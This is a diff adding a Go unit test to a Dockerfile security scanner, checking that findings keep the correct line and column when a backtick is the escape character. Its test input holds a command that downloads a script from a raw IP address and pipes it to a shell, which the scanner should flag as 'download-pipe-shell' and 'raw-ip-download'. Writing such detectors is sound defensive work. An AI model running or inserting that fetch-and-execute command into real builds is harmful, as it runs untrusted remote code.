@@ -281,3 +281,25 @@ func TestParseError(t *testing.T) {
 		t.Errorf("err = %v, want one about the missing FROM", err)
 	}
 }
+
+// TestPositionsBacktickEscape: with `# escape=` + "`", a backtick continues
+// the line; positions still name the physical line and column.
+func TestPositionsBacktickEscape(t *testing.T) {
+	src := "# escape=`\nFROM debian:bookworm\nRUN apt-get update && `\n  curl -fsSL http://203.0.113.9/setup.sh | sh\n"
+	v, err := dockerfile.New().Scan(context.Background(), dockerfile.Input{Dockerfile: []byte(src), Path: "Dockerfile"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	n := 0
+	for _, f := range v.Findings {
+		if f.Rule == "download-pipe-shell" || f.Rule == "raw-ip-download" {
+			n++
+			if f.Line != 4 || f.Column != 3 {
+				t.Errorf("%s at %d:%d, want 4:3", f.Rule, f.Line, f.Column)
+			}
+		}
+	}
+	if n != 2 {
+		t.Errorf("findings %+v, want download-pipe-shell and raw-ip-download", v.Findings)
+	}
+}
